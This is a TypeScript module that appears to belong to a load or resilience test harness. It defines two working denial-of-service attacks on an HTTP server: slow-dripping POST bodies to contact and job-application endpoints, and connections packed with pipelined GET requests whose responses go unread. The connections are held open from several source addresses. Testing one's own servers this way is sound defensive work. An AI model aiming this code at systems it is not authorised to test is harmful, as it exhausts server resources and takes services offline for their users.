import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Attack } from './attack.ts'

interface Options {
  count: number
  from: string
  onOpen: (socket: Socket) => void
  /** Called for each open connection every `ROUND_MS`. */
  onRound?: (socket: Socket) => void
}

/** Long enough that an attack is a load of one client, not of a network. */
const ROUND_MS = 5000

/** Keeps connections open without reading from them, and reopens those that the server closes, until disposed. */
function holdConnections(url: string, { count, from, onOpen, onRound }: Options): AsyncDisposable {
  const { hostname, port } = new URL(url)
  const stop = new AbortController()
  const sockets = new Set<Socket>()

  async function open(): Promise<void> {
    const socket = connect({ host: hostname, port: Number(port), localAddress: from }).pause()
    sockets.add(socket)
    socket.once('close', () => sockets.delete(socket)).on('error', () => undefined)
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
    if (!socket.destroyed) onOpen(socket)
  }

  async function run(): Promise<void> {
    while (!stop.signal.aborted) {
      for (const socket of sockets) onRound?.(socket)
      for (let missing = count - sockets.size; missing > 0 && !stop.signal.aborted; missing -= 1) await open()
      await pause(ROUND_MS, undefined, { signal: stop.signal }).catch(() => undefined)
    }
  }

  const running = run()
  return {
    async [Symbol.asyncDispose]() {
      stop.abort()
      await running
      for (const socket of sockets) socket.destroy()
    },
  }
}

const DRIPPING_CONNECTIONS = 200
const BODY_BYTES = 5_000_000

const FORM_START = '--x\r\nContent-Disposition: form-data; name="cv"; filename="cv.doc"\r\n\r\n'

/** Bodies that arrive at one byte every five seconds: enquiries, and applications with files. */
export const dripping: Attack = {
  name: 'dripping bodies',
  addresses: [3],
  prepare: async ({ url }) => {
    const { host } = new URL(url)
    const start = (path: string, type: string, body: string) =>
      `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${type}\r\nContent-Length: ${BODY_BYTES}\r\n\r\n${body}`
    const texts = [
      start('/api/contact', 'application/json', '{"firstName":"'),
      start('/api/applications', 'multipart/form-data; boundary=x', FORM_START),
    ]
    let opened = 0
    return (from) =>
      holdConnections(url, {
        count: DRIPPING_CONNECTIONS,
        from,
        onOpen: (socket) => void socket.write(texts[opened++ % texts.length] ?? ''),
        onRound: (socket) => void socket.write('a'),
      })
  },
}

const PIPELINING_CONNECTIONS = 280
/** Together longer than the 64 KiB that a server reads at once. */
const REQUESTS = 2600

/** Connections full of short requests whose responses nobody reads (HTTP pipelining). */
export const pipelining: Attack = {
  name: 'pipelined requests',
  addresses: [1, 2, 3],
  prepare: async ({ url }) => {
    const text = `GET / HTTP/1.1\r\nHost: ${new URL(url).host}\r\n\r\n`.repeat(REQUESTS)
    return (from) =>
      holdConnections(url, { count: PIPELINING_CONNECTIONS, from, onOpen: (socket) => void socket.write(text) })
  },
}
